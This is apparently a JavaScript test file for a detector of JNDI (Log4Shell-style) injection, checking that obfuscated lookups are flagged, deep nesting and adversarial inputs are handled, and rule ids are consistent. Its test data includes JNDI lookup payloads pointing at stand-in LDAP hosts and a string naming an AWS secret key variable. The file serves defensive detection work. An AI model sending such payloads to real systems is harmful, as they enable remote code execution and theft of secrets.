import { test } from 'node:test';
import assert from 'node:assert/strict';
import { jndiDetector } from './index.js';
import { ruleIds, vectorSuite } from '../vector-suite.js';

const { detect, fieldOf, vectors } = vectorSuite(jndiDetector, new URL('./jndi.vectors.json', import.meta.url), {
  minAttacks: 25, minBenign: 20, fallback: { kind: 'header', source: 'header', name: 'user-agent' },
});

test('fragments show the lookup as written; unclosed ones show the resolved text', () => {
  const found = detect('UA ${${lower:j}ndi:ldap://x.example.com/a} end', fieldOf(), 1);
  assert.deepEqual(found.map((detection) => [detection.rule.id, detection.fragment]), [
    ['jndi.obfuscated-lookup', '${${lower:j}ndi:ldap://x.example.com/a}'],
    ['jndi.spelling-lookup', '${lower:j}'],
  ]);
  assert.equal(detect('${${::-j}ndi:ldap://x', fieldOf(), 1)[0]?.fragment, '${jndi:ldap://x');
});

test('nesting deeper than the evaluator follows stays text, and a plain jndi lookup is still found', () => {
  const deep = `${'${'.repeat(40)}jndi:ldap://x/a${'}'.repeat(40)}`;
  assert.deepEqual(ruleIds(detect(deep, fieldOf(), 1)), ['jndi.lookup']);
});

test('adversarial inputs complete', () => {
  const inputs = ['${'.repeat(50_000), '\r\n'.repeat(50_000), '('.repeat(50_000), '0x'.repeat(50_000), '${'.repeat(25_000) + '}'.repeat(25_000),
    '${a:-'.repeat(30_000), '${::-j}'.repeat(20_000), `${'${lower:'.repeat(20_000)}j`, '$'.repeat(50_000), '${jndi'.repeat(20_000),
    `${'${::-'.repeat(12)}${'$${'.repeat(30_000)}`, '$${'.repeat(30_000)];
  for (const input of inputs) assert.ok(Array.isArray(detect(input, fieldOf(), 4)));
  assert.deepEqual(ruleIds(detect('${::-j}'.repeat(20_000), fieldOf(), 4)), ['jndi.spelling-lookup']);
});

test('triggers: `$` is necessary for every rule, and the gate lets every attack vector through', () => {
  for (const vector of vectors.attacks) assert.ok(vector.text.includes('$'), vector.text);
  assert.deepEqual(ruleIds(detect('jndi:ldap://x/ {env:AWS_SECRET_ACCESS_KEY}', fieldOf(), 4)), []);
});

test('rules: unique ids under jndi., attack class jndi', () => {
  const ids = jndiDetector.rules.map((rule) => rule.id);
  assert.equal(new Set(ids).size, ids.length);
  for (const rule of jndiDetector.rules) {
    assert.match(rule.id, /^jndi\.[a-z]+(-[a-z]+)*$/);
    assert.equal(rule.attackClass, 'jndi');
  }
});
